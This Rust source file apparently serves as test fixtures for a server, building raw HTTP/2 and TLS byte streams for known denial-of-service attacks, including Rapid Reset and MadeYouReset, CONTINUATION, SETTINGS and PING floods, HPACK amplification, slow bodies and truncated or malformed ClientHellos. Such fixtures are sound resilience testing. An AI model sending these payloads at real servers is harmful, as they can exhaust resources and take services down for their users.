//! What attackers write: frames of HTTP/2, and the beginning of TLS.

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The largest frame that every peer takes.
const FRAME_BYTES_MAX: usize = 16 * 1024;

/// Streams that one connection may have open.
pub const STREAMS: u32 = 100;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

fn begun(settings: &[u8], frames: impl IntoIterator<Item = Vec<u8>>) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, settings));
    bytes.extend(frames.into_iter().flatten());
    bytes
}

/// Clients' streams have odd numbers.
fn streams(many: u32) -> impl Iterator<Item = u32> {
    (0..many).map(|number| 2 * number + 1)
}

/// By their places in the tables of RFC 7541: `method` is 0x82 for GET and 0x83 for POST.
fn fields(method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x86, 0x01, 7];
    block.extend_from_slice(b"example");
    block.extend_from_slice(&[0x04, path.len() as u8]);
    block.extend_from_slice(path.as_bytes());
    block
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// More than a client gets away with before its connection ends.
const OFFENCES: u32 = 1_000;

/// Streams that end before anybody could look (CVE-2023-44487).
pub fn rapid_reset() -> Vec<u8> {
    begun(
        &[],
        streams(OFFENCES).map(|stream| {
            let head = frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields(GET, "/a/s"));
            [head, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        }),
    )
}

/// The same, by making the other side do it (CVE-2025-8671): a window wider than there may be is an error of the stream.
pub fn made_you_reset() -> Vec<u8> {
    begun(
        &[],
        streams(OFFENCES).map(|stream| {
            let head = frame(HEADERS, END_HEADERS, stream, &fields(POST, "/a/p"));
            [head, frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())].concat()
        }),
    )
}

/// A head that goes on and on.
pub fn continuations() -> Vec<u8> {
    let first = frame(HEADERS, END_STREAM, 1, &fields(GET, "/a/s"));
    begun(&[], [first].into_iter().chain((0..5_000).map(|_| frame(CONTINUATION, 0, 1, b""))))
}

pub fn settings() -> Vec<u8> {
    begun(&[], (0..2_000).map(|_| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])))
}

pub fn pings() -> Vec<u8> {
    begun(&[], (0..2_000).map(|_| frame(PING, 0, 0, &[7; 8])))
}

/// Asks for as much as there may be, and has no room for any of it.
pub fn no_window() -> Vec<u8> {
    let heads =
        streams(STREAMS).map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields(GET, "/a/b")));
    begun(&[0, 4, 0, 0, 0, 0], heads)
}

/// Has room for everything, and reads none of it.
pub fn wide_windows() -> Vec<u8> {
    let heads =
        streams(STREAMS).map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields(GET, "/a/b")));
    let all = frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes());
    begun(&[0, 4, 0x7f, 0xff, 0xff, 0xff], [all].into_iter().chain(heads))
}

/// A field of 4,000 bytes that is put into the table once and then named by one byte, again and again.
pub fn unfolding() -> Vec<u8> {
    let mut block = fields(GET, "/a/s");
    // A literal to be remembered; 4,000 is 127 and 3,873 in groups of seven bits.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend_from_slice(&[b'y'; 4_000]);
    block.resize(FRAME_BYTES_MAX, 0xbe);
    begun(&[], [frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)])
}

/// One cookie in ten thousand crumbs, each a byte on the wire.
pub fn crumbs() -> Vec<u8> {
    let mut block = fields(GET, "/a/s");
    block.extend_from_slice(&[0x60, 3]);
    block.extend_from_slice(b"a=b");
    block.resize(10_000, 0xbe);
    begun(&[], [frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)])
}

/// Requests whose bodies do not come.
pub fn slow_bodies() -> Vec<u8> {
    begun(&[], streams(STREAMS).map(|stream| frame(HEADERS, END_HEADERS, stream, &fields(POST, "/a/p"))))
}

/// A byte more of each.
pub fn slow_data() -> Vec<u8> {
    streams(STREAMS).flat_map(|stream| frame(DATA, 0, stream, b"x")).collect()
}

fn extension(kind: u16, body: &[u8]) -> Vec<u8> {
    [&kind.to_be_bytes()[..], &(body.len() as u16).to_be_bytes(), body].concat()
}

fn counted(body: &[u8]) -> Vec<u8> {
    [&(body.len() as u16).to_be_bytes()[..], body].concat()
}

/// A ClientHello of TLS 1.3 (RFC 8446, section 4.1.2) that asks for this name, without its record.
fn hello(name: &[u8]) -> Vec<u8> {
    let mut point = [0; 32];
    // The base point of X25519: as good as any.
    point[0] = 9;
    let extensions = [
        extension(0, &counted(&[&[0][..], &counted(name)].concat())),
        extension(10, &counted(&[0, 0x1d])),
        extension(13, &counted(&[4, 3, 8, 4, 4, 1])),
        extension(43, &[2, 3, 4]),
        extension(51, &counted(&[&[0, 0x1d][..], &counted(&point)].concat())),
    ];
    let body = [
        &[3, 3][..],
        &[7; 32],
        &[0],
        &counted(&[0x13, 1, 0x13, 2, 0x13, 3]),
        &[1, 0],
        &counted(&extensions.concat()),
    ]
    .concat();
    [&[1][..], &(body.len() as u32).to_be_bytes()[1..], &body].concat()
}

fn records(message: &[u8], bytes_each: usize) -> Vec<u8> {
    message.chunks(bytes_each).flat_map(|part| [&[22, 3, 1][..], &counted(part)].concat()).collect()
}

/// A whole one, to which nothing follows.
pub fn half_a_handshake() -> Vec<u8> {
    records(&hello(b"www.example.com"), FRAME_BYTES_MAX)
}

/// The same in records of one byte.
pub fn crumbled_handshake() -> Vec<u8> {
    records(&hello(b"www.example.com"), 1)
}

pub fn stranger() -> Vec<u8> {
    records(&hello(b"nobody.example.net"), FRAME_BYTES_MAX)
}

pub fn garbled_name() -> Vec<u8> {
    records(&hello(&[0xff, 0, b'.', b'.', b'/', b'\n', 0x80, b' ']), FRAME_BYTES_MAX)
}
